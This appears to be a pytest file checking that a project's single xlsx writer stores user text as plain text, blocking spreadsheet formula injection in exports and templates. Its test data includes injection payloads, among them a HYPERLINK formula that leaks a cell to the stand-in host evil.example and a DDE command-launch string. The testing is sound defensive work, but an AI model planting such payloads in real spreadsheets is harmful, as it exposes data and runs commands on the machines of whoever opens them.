"""Exports cannot carry formulas: one writer, used by every export and template (issue 12, #5)."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from agreements import services as agreement_services
from kokken import xlsx
from tests.agreements.factories import make_questionnaire, open_round
from tests.hr.factories import crossappointment

ROOT = Path(__file__).resolve().parents[2]
PLANTED = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def formulas(content: bytes) -> list[str]:
    """Every <f> element in every worksheet of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>", z.read(name).decode())]


def string_cells(content: bytes, text: str):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def test_the_writer_keeps_planted_formulas_as_text_and_their_text_unchanged():
    book = xlsx.Book()
    ws = book.sheet("data", ["text"])
    for value in PLANTED:
        book.append(ws, [value])
    content = book.save()
    assert formulas(content) == []
    cells = load_workbook(io.BytesIO(content))["data"]
    written = [c for (c,) in cells.iter_rows(min_row=2)]
    # XML reads a bare CR back as a line feed; nothing else changes.
    assert [c.value for c in written] == [v.replace("\r", "\n") for v in PLANTED]
    assert all(c.data_type == "s" and c.quotePrefix for c in written)


def test_a_formula_written_on_purpose_stays_a_formula():
    book = xlsx.Book()
    ws = book.sheet("data", ["n"])
    book.append(ws, [1])
    book.formula(ws, "A3", "=SUM(A2:A2)")
    assert formulas(book.save()) == ["<f>SUM(A2:A2)</f>"]


def test_control_characters_that_xml_cannot_carry_are_dropped_not_a_crash():
    book = xlsx.Book()
    ws = book.sheet("data", ["text"])
    book.append(ws, ["a\x00b\x1fc"])
    assert load_workbook(io.BytesIO(book.save()))["data"]["A2"].value == "abc"


def test_no_module_writes_xlsx_except_the_one_writer():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/")) or "/migrations/" in rel \
                or rel == "kokken/xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\(|"
                     r"export\(\s*[\"']xlsx[\"']|Databook\(|XLSX\(\)\.export_data|"
                     r"xlsxwriter", source):
            offenders.append(rel)
    # Write through kokken.xlsx.Book (or xlsx.from_datasets for tablib/import-export data).
    assert offenders == []


def test_report_sheets_are_built_through_the_writer_not_with_tablib_directly():
    """Apps make report sheets with ``xlsx.table``; register sheets come from their
    import-export resource (kokken/excel.py). Only the core touches tablib."""
    offenders = [path.relative_to(ROOT).as_posix() for path in ROOT.glob("*/**/*.py")
                 if not path.relative_to(ROOT).as_posix().startswith(
                     (".venv/", "tests/", "bench/", "kokken/"))
                 and re.search(r"^\s*(import tablib|from tablib )", path.read_text(
                     encoding="utf-8"), re.MULTILINE)]
    assert offenders == []


def test_round_export_writes_a_planted_answer_as_text(client_for, cast):
    round = open_round(cast, make_questionnaire())
    sheet = round.sheets.get(agency=cast.agency)
    agreement_services.answers_save(sheet=sheet, user=cast.editor, raw={"T1": PLANTED[0]},
                                      base_version=None)
    content = client_for(cast.secretariat).get(f"/rounds/{round.pk}/export.xlsx").content
    assert formulas(content) == []
    assert len(string_cells(content, PLANTED[0])) == 2  # wide and long


def test_sheet_template_writes_a_planted_answer_as_text(client_for, cast):
    sheet = open_round(cast, make_questionnaire()).sheets.get(agency=cast.agency)
    agreement_services.answers_save(sheet=sheet, user=cast.editor, raw={"T1": PLANTED[0]},
                                      base_version=None)
    content = client_for(cast.editor).get(f"/sheets/{sheet.pk}/template.xlsx").content
    assert formulas(content) == []
    assert len(string_cells(content, PLANTED[0])) == 1


@pytest.mark.parametrize("url", [
    "/hr/agencies/riken/cross-appointments/export.xlsx?fy=2024",
    "/hr/indicators/export.xlsx?fy=2024",
])
def test_hr_exports_write_planted_register_text_as_text(client_for, cast, url):
    crossappointment(cast.agency, partner_name=PLANTED[0], reference="=1+1")
    response = client_for(cast.secretariat).get(url)
    assert response.status_code == 200
    assert formulas(response.content) == []
    assert string_cells(response.content, PLANTED[0])


def test_a_write_only_book_streams_rows_with_formulas_as_text_and_the_same_header():
    book = xlsx.Book(write_only=True)
    ws = book.sheet("data", ["text", "n"])
    for value in PLANTED:
        book.append(ws, [value, 1])
    content = book.save()
    assert formulas(content) == []
    sheet = load_workbook(io.BytesIO(content))["data"]
    written = [c for (c, _n) in sheet.iter_rows(min_row=2)]
    assert [c.value for c in written] == [v.replace("\r", "\n") for v in PLANTED]
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
    assert [c.value for c in sheet[1]] == ["text", "n"]
    assert all(c.font.bold and c.fill.fgColor.rgb.endswith("DDDDDD") for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["B2"].value == 1 and not sheet["B2"].quotePrefix


def test_a_write_only_book_refuses_a_formula_and_still_saves_one_empty_sheet():
    book = xlsx.Book(write_only=True)
    with pytest.raises(TypeError):
        book.formula(book.sheet("data"), "A1", "=1+1")
    assert load_workbook(io.BytesIO(xlsx.Book(write_only=True).save())).sheetnames == ["sheet"]
